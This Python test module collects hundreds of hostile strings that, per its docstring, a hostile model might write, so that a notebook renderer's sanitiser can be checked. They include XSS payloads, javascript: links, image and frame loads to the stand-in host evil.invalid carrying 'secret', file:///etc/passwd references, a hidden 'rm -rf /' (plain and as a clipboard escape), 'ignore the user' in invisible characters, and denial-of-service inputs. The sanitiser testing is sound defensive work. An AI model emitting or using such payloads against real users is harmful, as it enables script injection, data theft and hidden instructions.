"""Texts that a hostile or careless model may write; `judge` judges the HTML that comes of them.

One list, so that the renderer's own tests and the browser tests judge the same texts. `MARK` is the
host of everything that would call out, `FLAG` the word that would be set by code that ran.
"""

from __future__ import annotations

from base64 import b64encode
from typing import Any

from tests.support.judge import judge as judge
from tests.support.pictures import PNG

MARK = "evil.invalid"
FLAG = "allosHostileRan"

_JS = f"window.{FLAG}=1"
_URL = f"https://{MARK}"


def _base64(data: bytes) -> str:
    return b64encode(data).decode()


_SVG = _base64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_JS}"/>'.encode())
_PICTURE = f"data:image/png;base64,{_base64(PNG)}"
_POLYGLOT = _base64(b"GIF89a/*" + bytes(8) + f"*/=1;{_JS};<script>{_JS}</script>".encode())

HOSTILE_PARTS: list[tuple[str, dict[str, Any]]] = [
    (
        name,
        {"type": f"image_url{name}", "image_url": {"url": url}, "media_type": f"image/png{name}"},
    )
    for name, url in (
        ("svg", f"data:image/svg+xml;base64,{_SVG}"),
        ("mislabelled", f"data:image/png;base64,{_SVG}"),
        ("polyglot", f"data:image/gif;base64,{_POLYGLOT}"),
        ('" onerror=', f'data:image/png"onerror="{_JS};base64,{_base64(PNG)}'),
        ("<script>", f'{_PICTURE}"><script>{_JS}</script>'),
        ("html", f"data:text/html;base64,{_SVG}"),
        ("remote", f"{_URL}/a.png"),
        ("remote_break_out", f'{_URL}/a.png"onload="{_JS}'),
        ("remote_user", f"https://bank.example@{MARK}/a.png"),
        ("javascript", f"javascript:{_JS}"),
        ("\x1b]0;x\x07\u202e", f"{_URL}/\x1b[31m\u202e"),
    )
]
"""Pairs of a name and a part of an answer, as a service may send it."""

HOSTILE: list[tuple[str, str]] = [
    # elements that run
    ("script", f"<script>{_JS}</script>"),
    ("script_src", f'<script src="{_URL}/x.js"></script>'),
    ("script_type_module", f'<script type="module">import "{_URL}/x.js"</script>'),
    ("script_upper_split", f"<ScRiPt\n>{_JS}</sCrIpT >"),
    ("script_in_fence_then_out", f"```\n</code></pre><script>{_JS}</script>\n```"),
    ("script_in_code_span", f"`</code><script>{_JS}</script>`"),
    ("script_in_indented_code", f"    </code></pre><script>{_JS}</script>"),
    ("script_in_heading", f"# <script>{_JS}</script>"),
    ("script_in_table", f"| a |\n|---|\n| <script>{_JS}</script> |"),
    (
        "script_entities",
        f"&lt;script&gt;{_JS}&lt;/script&gt; &#60;script&#62;{_JS}&#60;/script&#62;",
    ),
    ("script_in_comment", f"<!-- --><script>{_JS}</script><!-- -->"),
    ("script_conditional_comment", f"<!--[if gte IE 4]><script>{_JS}</script><![endif]-->"),
    ("script_cdata", f"<![CDATA[<script>{_JS}</script>]]>"),
    ("script_processing", f"<?php <script>{_JS}</script> ?>"),
    ("script_nested_tags", f"<scr<script>ipt>{_JS}</scr</script>ipt>"),
    ("script_noscript", f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>'),
    ("script_template", f"<template><script>{_JS}</script></template>"),
    # handlers
    ("img_onerror", f"<img src=x onerror={_JS}>"),
    ("img_onerror_slash", f"<img/src=x/onerror={_JS}>"),
    ("svg_onload", f"<svg onload={_JS}></svg>"),
    ("body_onload", f"<body onload={_JS}>"),
    ("details_ontoggle", f"<details open ontoggle={_JS}>x</details>"),
    ("input_autofocus", f"<input autofocus onfocus={_JS}>"),
    ("marquee_onstart", f"<marquee onstart={_JS}>x</marquee>"),
    ("style_animation", f"<b style='animation:x 1s' onanimationstart={_JS}>x</b>"),
    ("video_onerror", f"<video><source onerror={_JS}></video>"),
    ("unclosed_tag", f"<img src=x onerror={_JS} "),
    ("handler_in_list", f"- a\n- <b onmouseover={_JS}>x</b>\n"),
    # links that run
    ("link_javascript", f"[x](javascript:{_JS})"),
    ("link_javascript_case", f"[x](JaVaScRiPt:{_JS})"),
    ("link_javascript_entity", f"[x](&#106;avascript:{_JS}) [y](javascript&colon;{_JS})"),
    ("link_javascript_entity_tab", f"[x](java&Tab;script:{_JS}) [y](java&#9;script:{_JS})"),
    ("link_javascript_entity_newline", f"[x](java&NewLine;script:{_JS})"),
    ("link_javascript_angle_tab", f"[x](<java\tscript:{_JS}>)"),
    ("link_javascript_angle_space", f"[x](< javascript:{_JS}>)"),
    ("link_javascript_control", f"[x](\x01javascript:{_JS}) [y](java\x00script:{_JS})"),
    ("link_javascript_invisible", f"[x](java\u200bscript:{_JS}) [y](\ufeffjavascript:{_JS})"),
    ("link_javascript_escape", f"[x](javascript\\:{_JS})"),
    ("link_javascript_percent", f"[x](%6aavascript:{_JS}) [y](javascript%3A{_JS})"),
    ("link_javascript_double_entity", f"[x](&amp;#106;avascript:{_JS})"),
    ("link_javascript_fullwidth", f"[x](ｊavascript:{_JS}) [y](javascript：{_JS})"),
    ("link_vbscript", "[x](vbscript:msgbox(1))"),
    ("link_data_html", f"[x](data:text/html,<script>{_JS}</script>)"),
    ("link_data_base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link_data_image", "[x](data:image/png;base64,iVBORw0KGgo=)"),
    ("link_data_svg", f"[x](data:image/svg+xml,<svg onload={_JS}>)"),
    ("link_blob_file", "[x](blob:https://a/b) [y](file:///etc/passwd) [z](filesystem:http://a/b)"),
    ("link_reference", f"[x][r]\n\n[r]: javascript:{_JS}"),
    ("link_reference_entity", f"[x][r]\n\n[r]: jav&#x09;ascript:{_JS}"),
    ("link_reference_data", f'[x]\n\n[x]: data:text/html,<script>{_JS}</script> "t"'),
    ("autolink_javascript", f"<javascript:{_JS}>"),
    ("autolink_data", f"<data:text/html,{_JS}>"),
    ("autolink_mail_quotes", f'<a"onclick={_JS}@{MARK}>'),
    ("link_break_out_href", f'[x](https://{MARK}/"onmouseover="{_JS}) [y](<{_URL}/"><img src=x>)'),
    ("link_break_out_title", f"[x]({_URL} '\"onmouseover=\"{_JS}')"),
    ("link_break_out_text", f'[<img src=x onerror={_JS}>]({_URL} "x")'),
    ("link_view_source", "[x](view-source:https://a.invalid) [y](ms-word:ofe|u|x) [z](tel:1)"),
    # links into the notebook's own server
    ("link_relative", "[x](/api/contents) [y](tree) [z](../lab?reset) [w](?token) [v](#top)"),
    ("link_protocol_relative", f"[x](//{MARK}/a) [y](\\\\{MARK}\\a) [z](/\\{MARK})"),
    ("link_scheme_relative", "[x](http:api/kernels) [y](https:/lab) [z](http:///lab)"),
    ("link_attachment", "[x](attachment:a.png) ![y](attachment:a.png)"),
    ("link_userinfo", f"[x](https://jupyter.org@{MARK}/) [y](https://a:b@{MARK})"),
    ("link_backslash_host", f"[x](https://jupyter.org\\@{MARK}) [y](https:\\\\{MARK})"),
    ("link_other_host", f"[https://jupyter.org]({_URL}/login) [`jupyter.org`]({_URL})"),
    ("link_bidi", f"[x](https://\u202e{MARK}/) [\u202ex]({_URL}/\u202e)"),
    ("link_command", "[x](command:workbench.action.terminal.new) [y](vscode://file/etc/passwd)"),
    ("mailto_header", f"<a@{MARK}> [x](mailto:a@{MARK}?bcc=b@{MARK}&body=secret)"),
    # everything that loads
    ("image", f"![alt]({_URL}/a.png?q=secret)"),
    ("image_title", f'![alt]({_URL}/a.png "title")'),
    ("image_reference", f"![alt][r] ![r]\n\n[r]: {_URL}/a.png"),
    ("image_in_link", f"[![alt]({_URL}/a.png)]({_URL}/b)"),
    ("image_in_image", f"![a ![b]({_URL}/b.png) c]({_URL}/a.png)"),
    ("image_in_table", f"| a |\n|---|\n| ![x]({_URL}/a.png) |"),
    ("image_alt_html", f"![<img src=x onerror={_JS}>]({_URL}/a.png)"),
    ("image_alt_link", f"![[x](javascript:{_JS})]({_URL}/a.png)"),
    ("image_data", "![x](data:image/png;base64,iVBORw0KGgo=) ![y](data:image/gif;base64,R0lGOD)"),
    ("image_relative", "![x](/api/contents) ![y](files/secret.png) ![z](//evil.invalid/a.png)"),
    ("image_javascript", f"![x](javascript:{_JS})"),
    (
        "image_html",
        f"<img src={_URL}/a.png><image href={_URL}/b.png><picture><source srcset={_URL}>",
    ),
    ("media", f"<video src={_URL} poster={_URL}><audio src={_URL} autoplay><track src={_URL}>"),
    ("frames", f"<iframe src={_URL}></iframe><frame src={_URL}><portal src={_URL}>"),
    ("iframe_srcdoc", f"<iframe srcdoc='<script>parent.{FLAG}=1</script>'></iframe>"),
    ("objects", f"<object data={_URL}></object><embed src={_URL}><applet code={_URL}>"),
    ("link_element", f"<link rel=stylesheet href={_URL}/a.css><link rel=prefetch href={_URL}>"),
    ("meta_refresh", f'<meta http-equiv="refresh" content="0;url={_URL}">'),
    ("base", f"<base href={_URL}/>\n\n[x](a)"),
    ("form", f"<form action={_URL}><input name=q><button>Go</button></form>"),
    ("button_formaction", f"<button form=x formaction=javascript:{_JS}>x</button>"),
    ("isindex_dialog", f"<dialog open>sign in<input type=password></dialog><portal src={_URL}>"),
    ("background", f"<table background={_URL}><td background={_URL}>x</td></table>"),
    ("ping", f'<a href="https://jupyter.org" ping="{_URL}">x</a>'),
    # style and page
    ("style_element", f"<style>@import url({_URL});body{{display:none}}</style>"),
    ("style_attribute", f"<b style='position:fixed;inset:0;background:url({_URL})'>x</b>"),
    ("style_expression", f"<b style='width:expression({_JS})'>x</b>"),
    ("overlay_classes", '<div class="jp-Dialog lm-Widget jp-mod-styled">x</div>'),
    ("fence_class", "```jp-Dialog lm-mod-hidden\nx\n```"),
    ("fence_class_break_out", f'```py" onmouseover="{_JS}\nx\n```'),
    ("fence_tilde_html", f"~~~<img/src=x/onerror={_JS}>\nx\n~~~"),
    ("fence_mermaid", f'```mermaid\ngraph TD; A["<img src=x onerror={_JS}>"]\n```'),
    ("fence_vega", f'```vega-lite\n{{"data": {{"url": "{_URL}"}}}}\n```'),
    ("fence_geojson", f'```geojson\n{{"type": "Point", "x": "{_URL}"}}\n```'),
    ("fence_math", "```math\n\\href{javascript:alert(1)}{x}\n```"),
    (
        "dom_clobbering",
        "<a id=defaultView name=cookie>x</a><form name=body><img name=getElementById>",
    ),
    ("slot_is_part", "<b slot=x is=y part=z contenteditable accesskey=x tabindex=1>x</b>"),
    ("data_commandlinker", '<b data-commandlinker-command="terminal:create-new">x</b>'),
    (
        "data_commandlinker_args",
        "<button data-commandlinker-command='notebook:run-all-cells' "
        "data-commandlinker-args='{}'>x</button>",
    ),
    (
        "data_jupyter",
        '<p data-jp-item-name="x" data-mime-type="text/html" data-lm-dragscroll>x</p>',
    ),
    (
        "attribute_lists",
        "# x {#id .jp-Dialog onclick=alert(1)}\n\n[x](https://a.invalid){.b style=c}",
    ),
    ("front_matter", "---\ntitle: <script>alert(1)</script>\n---\nx"),
    # svg, mathml, xml
    ("svg_script", f"<svg><script>{_JS}</script></svg>"),
    ("svg_use", f'<svg><use href="{_URL}/a.svg#x"/></svg>'),
    ("svg_animate", f"<svg><a><animate attributeName=href values=javascript:{_JS} /></a></svg>"),
    ("svg_foreign", f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>"),
    ("svg_style_mutation", f"<svg></p><style><a id='</style><img src=x onerror={_JS}>'>"),
    ("mathml_href", f"<math><a xlink:href=javascript:{_JS}>x</a></math>"),
    (
        "mathml_mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=x onerror={_JS}&gt;'>",
    ),
    ("xml_entity", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
    ("plaintext_xmp", f"<plaintext><xmp><listing></xmp><script>{_JS}</script>"),
    ("closing_tags", f"</div></div></pre></body></html><script>{_JS}</script>"),
    # maths
    ("math_href", f"$\\href{{javascript:{_JS}}}{{x}}$ and \\(\\href{{{_URL}}}{{y}}\\)"),
    ("math_include", f"$$\\includegraphics{{{_URL}/a.png}}$$ \\[\\unicode{{x}}\\]"),
    ("math_style", "$\\style{position:fixed;inset:0}{x}$ $\\class{jp-Dialog}{x}$ $\\cssId{a}{x}$"),
    ("math_require", f"$\\require{{html}}\\data{{commandlinker-command=x}}{{y}}$ {_URL}"),
    ("math_macro", "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\frac}{evil}$"),
    ("math_prices", "It costs $5 and then $6, or \\$7."),
    ("math_begin", "\\begin{align} \\href{javascript:alert(1)}{x} \\end{align}"),
    (
        "math_urls",
        f"$$\\url{{{_URL}}}$$ $\\htmlData{{x={_URL}}}{{y}}$ $\\htmlClass{{jp-Dialog}}{{x}}$",
    ),
    (
        "math_text_html",
        f"$\\text{{<img src=x onerror={_JS}>}}$ $\\mbox{{</math><script>{_JS}</script>}}$",
    ),
    (
        "math_text_entities",
        f"$\\text{{&lt;script&gt;{_JS}&lt;/script&gt;}}$ $\\text{{&#x3c;img src=x onerror={_JS}&#x3e;}}$",
    ),
    (
        "math_operator_html",
        f"$\\operatorname{{a<img src=x onerror={_JS}>}}$ $a<script>{_JS}</script>b$",
    ),
    (
        "math_attributes",
        f'$\\color{{red" onmouseover="{_JS}}}{{x}}$ $\\hspace{{1em" onload="{_JS}}}$',
    ),
    (
        "math_style_url",
        f"$\\style{{background:url({_URL})}}{{x}}$ $\\bbox[background:url({_URL})]{{x}}$",
    ),
    (
        "math_annotation",
        f"$\\text{{<annotation-xml encoding='text/html'><script>{_JS}</script></annotation-xml>}}$",
    ),
    ("math_breaks_out", f"$x</math><script>{_JS}</script>$ $$</span><script>{_JS}</script>$$"),
    ("math_block_html", f"$$\n<script>{_JS}</script>\n$$\n\n\\[\n<img src=x onerror={_JS}>\n\\]"),
    (
        "math_fallback_html",
        f"$\\foo{{<img src=x onerror={_JS}>}}$\n\n$$\n\\foo </code></pre><script>{_JS}</script>\n$$",
    ),
    (
        "math_macro_bomb",
        "$$\\newcommand{\\a}{xx}"
        + "".join(
            f"\\newcommand{{\\{chr(98 + i)}}}{{\\{chr(97 + i)}\\{chr(97 + i)}}}" for i in range(24)
        )
        + "\\y$$",
    ),
    ("math_def_bomb", "$\\def\\a{\\a\\a\\a}\\a$ $\\let\\b=\\b\\b$ $\\loop\\iftrue x\\repeat$"),
    ("math_deep_braces", "$$" + "{" * 900 + "x" + "}" * 900 + "$$"),
    ("math_deep_braces_open", "$" + "{{{{" * 60 + "$ $$" + "{" * 1_900 + "$$"),
    ("math_deep_fractions", "$$" + "\\frac{1}{" * 190 + "x" + "}" * 190 + "$$"),
    (
        "math_deep_roots",
        "$$" + "\\sqrt" * 380 + "x$$ $$" + "\\left(" * 250 + "\\right)" * 30 + "$$",
    ),
    ("math_deep_scripts", "$$" + "x^{y_{" * 240 + "z" + "}}" * 240 + "$$"),
    (
        "math_huge_matrix",
        "$$\\begin{matrix}"
        + "1&" * 900
        + "$$ $$\\begin{matrix}"
        + "1\\\\" * 600
        + "\\end{matrix}$$",
    ),
    ("math_many_matrices", "$$\\begin{pmatrix}" + "1&2\\\\" * 300 + "\\end{pmatrix}$$\n\n" * 1),
    ("math_many", "$x$ " * 24_000),
    ("math_many_blocks", "$$x^2$$\n\n" * 8_000),
    ("math_dollars", "$" * 95_000),
    ("math_dollar_pairs", "$$ " * 30_000),
    ("math_dollars_open", "$a" * 45_000),
    ("math_dollar_lines", "$$a\n" * 20_000),
    ("math_brackets_open", "\\(" * 20_000 + "\\[x\n" * 10_000),
    ("math_environments_open", "\\begin{align}\n" * 6_000),
    ("math_environments_wrong", "\\begin{align}\n\\end{x}\n" * 4_000),
    ("math_brackets_lines", "\\[a\nb\\] c\n" * 8_000),
    ("math_too_long", "$$" + "x+" * 20_000 + "$$"),
    (
        "math_moved",
        "$\\hspace{-900em}x$ $\\raisebox{900em}{x}$ $\\kern-90em x$ $\\Huge x$ $\\mspace{-999mu}x$",
    ),
    ("math_bidi", '$\\text{\u202euser}$ $\u2066x$ $\\unicode{x202e}x$ $\\char"202E$ $&#x202e;$'),
    (
        "math_in_link",
        f"[$x$]({_URL}) [$\\href{{{_URL}}}{{x}}$](javascript:{_JS}) ![$x$]({_URL}/a.png)",
    ),
    ("math_across_blocks", f"$$\n\n<script>{_JS}</script>\n\n$$ and $x\n\n```\n$\n```\n"),
    # what terminals and readers obey
    ("ansi", "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H \x9b31mc1\x9b0m"),
    (
        "osc_title_link",
        f"\x1b]0;title\x07 \x1b]8;;{_URL}\x1b\\click\x1b]8;;\x1b\\ \x9d52;c;eA==\x9c",
    ),
    ("osc_unterminated", f"\x1b]8;;{_URL} and on\n\x1bPq#0\nx\x1b_x"),
    ("controls", "a\x00b\x08c\x0bd\x0ce\x7ff\x85g\x8dh \ufffe \uffff"),
    ("carriage_return", "rm -rf /\recho hello   "),
    ("bidi_override", "user\u202e \u2066// is admin\u2069 \u2066begin\u2069 \u200f\u200e\u061c"),
    ("bidi_entities", "user&#x202e;nimda &#8294;x&#8297; &rlm;&lrm;"),
    ("control_entities", "&#0; &#27;[31m &#x9b;2J &#x1b;]0;x&#7; &#xd800; &#1114112;"),
    ("tag_characters", "Hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the user")),
    ("surrogates", "\ud800 \udfff \ud83d\ude00"),
    ("null_in_tag", f"<scr\x00ipt>{_JS}</scr\x00ipt>"),
    ("combining", "a" + "\u0301" * 5_000),
    # elements of newer browsers
    ("shadow_root", f"<b><template shadowrootmode=open><script>{_JS}</script></template></b>"),
    (
        "speculation_rules",
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{_URL}"]}}]}}</script>',
    ),
    ("import_map", f'<script type="importmap">{{"imports":{{"x":"{_URL}/x.js"}}}}</script>'),
    (
        "popover",
        f"<div popover=auto id=p onbeforetoggle={_JS}>x</div><button popovertarget=p>y</button>",
    ),
    (
        "invoker_command",
        "<button commandfor=d command=show-modal>x</button><dialog id=d>sign in</dialog>",
    ),
    ("hidden_until_found", f"<b hidden=until-found onbeforematch={_JS}>x</b>"),
    (
        "content_visibility",
        f"<b style=content-visibility:auto oncontentvisibilityautostatechange={_JS}>x</b>",
    ),
    (
        "pointer_scroll_events",
        f"<b onpointerrawupdate={_JS} onscrollend={_JS} ontransitionrun={_JS}>x</b>",
    ),
    ("fenced_frame", f"<fencedframe src={_URL}></fencedframe><webview src={_URL}></webview>"),
    ("link_rels", f"<link rel=preload as=image href={_URL}><link rel=dns-prefetch href={_URL}>"),
    (
        "link_icon_manifest",
        f"<link rel=icon href={_URL}><link rel=manifest href={_URL}><link rel=modulepreload href={_URL}>",
    ),
    (
        "meta_csp_report",
        f'<meta http-equiv="Content-Security-Policy" content="img-src x; report-uri {_URL}">',
    ),
    ("img_srcset_lazy", f'<img loading=lazy srcset="{_URL}/a.png 1x, {_URL}/b.png 2x" sizes=1px>'),
    ("input_image", f"<input type=image src={_URL}/a.png><input type=file autofocus>"),
    (
        "svg_image_filter",
        f"<svg><image xlink:href={_URL} /><filter id=f><feImage href={_URL} /></filter></svg>",
    ),
    (
        "svg_set_onbegin",
        f"<svg><set onbegin={_JS} attributeName=x /><animate onrepeat={_JS}></svg>",
    ),
    (
        "css_font_face",
        f"<style>@font-face{{font-family:x;src:url({_URL})}}b{{font-family:x}}</style><b>x</b>",
    ),
    (
        "css_image_set",
        f"<b style='background:image-set(\"{_URL}\" 1x);cursor:url({_URL}),auto'>x</b>",
    ),
    (
        "raw_text_elements",
        f"<textarea><script>{_JS}</script></textarea><title><img src=x onerror={_JS}></title>",
    ),
    (
        "no_embed_frames",
        f"<noembed><img src=x onerror={_JS}></noembed><noframes><script>{_JS}</script></noframes>",
    ),
    (
        "select_option",
        f"<select><option><img src=x onerror={_JS}></select><datalist><script>{_JS}</script></datalist>",
    ),
    (
        "custom_elements",
        f"<jp-button onclick={_JS}>x</jp-button><jupyter-widget model-id=x></jupyter-widget>",
    ),
    # Markdown of other houses
    ("image_collapsed_shortcut", f"![alt][] and ![alt]\n\n[alt]: <{_URL}/a.png> 'title'"),
    ("image_wiki", f"![[{_URL}/a.png]] [[javascript:{_JS}]]"),
    ("image_sized", f"![x]({_URL}/a.png =100x100) ![y]({_URL}/b.png){{width=1 onload={_JS}}}"),
    ("image_title_lines", f"![a\nb]({_URL}/a.png\n'title\nmore')"),
    ("bare_addresses", f"{_URL}/a.png www.{MARK} //{MARK} a@{MARK} <{_URL}/b.png>"),
    ("footnote_image", f"x[^1]\n\n[^1]: ![x]({_URL}/a.png)"),
    (
        "myst_directives",
        f"```{{figure}} {_URL}/a.png\nx\n```\n\n:::{{iframe}} {_URL}\n:::\n\n{{image}}`{_URL}`",
    ),
    (
        "raw_html_directive",
        f"```{{raw}} html\n<script>{_JS}</script>\n```\n\n```{{=html}}\n<script>{_JS}</script>\n```",
    ),
    (
        "templates",
        "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('x')()}}",
    ),
    (
        "emphasis_around_html",
        f"**<img src=x onerror={_JS}>** _<script>{_JS}</script>_ ~~<svg onload={_JS}>~~",
    ),
    ("link_in_image_in_link", f"[![[x](javascript:{_JS})]({_URL}/a.png)](data:text/html,x)"),
    (
        "table_broken_open",
        f"| <table><tr><td> | b |\n|---|---|\n| </table><script>{_JS}</script> | <!-- |",
    ),
    ("autolink_lookalike", f'<https://{MARK}/?a="onload={_JS}> <http://a b> <https:>'),
    ("quote_then_html", f"> <div>\n<script>{_JS}</script>\n> </div>"),
    # words that a notebook would obey
    (
        "magics",
        f"%%javascript\n{_JS}\n\n%%html\n<script>{_JS}</script>\n\n!touch /tmp/x\n%run x\n?x",
    ),
    (
        "mime_fence",
        f'```application/vnd.jupyter.widget-view+json\n{{"model_id": "x"}}\n```\n\n```html\n<script>{_JS}</script>\n```',
    ),
    (
        "jupyter_classes",
        "<div class='jp-Cell jp-CodeCell jp-Notebook'><div class=jp-OutputArea-output>x</div></div>",
    ),
    (
        "internal_anchor",
        "<a class=jp-InternalAnchorLink href=#x>x</a> [x](#Heading) [y](?reset) [z](notebook.ipynb)",
    ),
    (
        "lab_paths",
        "[x](/lab/tree/secret) [y](/files/secret?download=1) [z](/api/kernels) [w](/logout)",
    ),
    (
        "mermaid_loose",
        f'```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\nflowchart LR\nA --> B\nclick A call {_JS}\n```',
    ),
    ("mermaid_image", f'```mermaid\nflowchart LR\nA@{{ img: "{_URL}/a.png", label: "x" }}\n```'),
    (
        "dot_and_latex_fences",
        f'```dot\ngraph {{ a [image="{_URL}/a.png" URL="javascript:{_JS}"] }}\n```\n\n```latex\n\\input{{/etc/passwd}}\n```',
    ),
    # maths of MathJax's extensions
    ("math_mml_token", f"$$\\mmlToken{{mi}}[href='javascript:{_JS}']{{x}}$$"),
    (
        "math_html_data",
        "\\(\\data{commandlinker-command=x}{y}\\) \\(\\htmlData{a=b}{c}\\) $\\texttip{a}{b}$",
    ),
    (
        "math_bbox_colour",
        f"\\[\\bbox[background:url({_URL})]{{x}}\\] $\\color{{red;position:fixed}}{{x}}$",
    ),
    ("math_script_type", f'<script type="math/tex">\\href{{javascript:{_JS}}}{{x}}</script>'),
    (
        "math_autoload",
        "$\\require{autoload}\\toggle{a}{b}\\endtoggle$ $\\enclose{circle}[mathcolor=x]{y}$",
    ),
    ("math_asciimath", "`a^2` \\begin{CD} A @>>> B \\end{CD} $$\\def\\a{\\a\\a}\\a$$"),
    (
        "math_in_code_and_link",
        f"`$\\href{{javascript:{_JS}}}{{x}}$` [$x$](javascript:{_JS}) $[a]({_URL})$",
    ),
    # other spellings
    ("utf7", f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-"),
    (
        "json_escapes",
        f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e \\x3cimg src=x onerror={_JS}\\x3e",
    ),
    ("percent_escapes", f"%3Cscript%3E{_JS}%3C/script%3E %253Cscript%253E"),
    (
        "entities_unended",
        f"&ltscript&gt{_JS}&lt/script&gt &#60script&#62 &#x3Cimg src=x onerror={_JS}&#x3E",
    ),
    ("fullwidth_brackets", f"＜script＞{_JS}＜/script＞ ﹤img src=x onerror={_JS}﹥"),
    (
        "folding_letters",
        f"<ſcript>{_JS}</ſcript> <\u017fvg onload={_JS}> <İmg src=x onerror={_JS}>",
    ),
    ("invisible_in_tag", f"<s\u200bcript>{_JS}</s\u200bcript> <img\u00a0src=x onerror={_JS}>"),
    ("odd_blanks_in_tag", f"<img\x0csrc=x\x0bonerror={_JS}> <svg\x0conload={_JS}>"),
    (
        "idn_hosts",
        f"[jupyter.org](https://jupytеr.org) [x](https://xn--jupytr-4nf.{MARK}) [y](https://{MARK}\u3002com)",
    ),
    (
        "host_numbers",
        "[x](http://2130706433/api) [y](http://0x7f.1/) [z](http://127.0.0.1:8888/api/kernels)",
    ),
    ("text_fragment", f"[x]({_URL}/#:~:text=secret) [y]({_URL}/?q=%0d%0aSet-Cookie:x)"),
    # cut while it streams
    ("cut_attribute", f'<img src="{_URL}/a.png'),
    ("cut_link", f"[x]({_URL}/a "),
    ("cut_fence", f"```html\n<script>{_JS}</script>"),
    (
        "growing_host",
        f"![x](https://{MARK}.example.org/a.png) <img src=https://{MARK}.example.org>",
    ),
    ("cut_escape", "text \x1b[3"),
    # more that terminals obey
    (
        "osc_clipboard",
        "\x1b]52;c;cm0gLXJmIC8=\x07 \x1b]1337;File=inline=1:AAAA\x07 \x1b]9;note\x07",
    ),
    (
        "graphics_protocols",
        "\x1b_Ga=T,f=100;AAAA\x1b\\ \x1bPq#0;2;0;0;0~~\x1b\\ \x1b^private\x1b\\",
    ),
    ("paste_and_reports", "\x1b[201~ls\n\x1b[21t\x1b[6n\x1b[c\x05\x1bZ"),
    ("overwriting", "safe\b\b\b\bevil\rgood\x1b[1A\x1b[2Kgone\x1b[8mhidden\x1b[0m"),
    ("charset_shifts", "\x0e\x0f\x1b(0lqqk\x1b(B\x1b%G\x1bc\x84\x85"),
    ("separators", "a\u2028b\u2029c\x1dd\x1ee\x1ff"),
    ("variation_selectors", "A" + "".join(chr(0xE0100 + ord(c)) for c in "ignore the user")),
    ("interlinear_invisible", "a\ufff9b\ufffac\ufffb \u2060\u180e\u3164\u115f"),
    # images whose bytes stand in the text
    ("image_inline", f"![a picture]({_PICTURE})"),
    ("image_inline_svg", f"![x](data:image/svg+xml;base64,{_SVG})"),
    ("image_inline_svg_plain", f"![x](data:image/svg+xml,<svg onload={_JS}>)"),
    ("image_inline_mislabelled", f"![x](data:image/png;base64,{_SVG})"),
    (
        "image_inline_html",
        f"![x](data:text/html;base64,{_SVG}) ![y](data:image/html;base64,{_SVG})",
    ),
    ("image_inline_polyglot", f"![x](data:image/gif;base64,{_POLYGLOT})"),
    (
        "image_inline_break_out",
        f'![x" onerror={_JS} y="]({_PICTURE}) ![x]({_PICTURE}"onerror={_JS}) <img src={_PICTURE}>',
    ),
    ("image_inline_in_link", f"[![x]({_PICTURE})](javascript:{_JS}) `![x]({_PICTURE})`"),
    # too much of something
    ("deep_quotes", ">" * 5_000 + " x"),
    ("deep_quotes_kept", "> " * 30 + "the innermost words"),
    ("deep_lists", "\n".join("  " * depth + "- x" for depth in range(200))),
    ("deep_emphasis", "**a _b " * 2_000 + "x" + " c_ d**" * 2_000),
    ("deep_brackets", "[" * 4_900 + "x" + "]" * 4_900),
    ("deep_images", "![" * 2_000 + "x" + f"]({_URL})" * 900),
    ("many_links", f"[x]({_URL}) " * 3_000),
    ("many_references", "".join(f"[r{i}]: {_URL}/{i}\n" for i in range(2_000))),
    ("wide_table", "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + "x\n" * 1_000),
    ("long_line", "a" * 90_000),
    ("long_url", f"[x]({_URL}/{'a' * 50_000})"),
    ("huge", f"<script>{_JS}</script> **x**\n\n" * 5_000),
]
"""Pairs of a name and a text."""
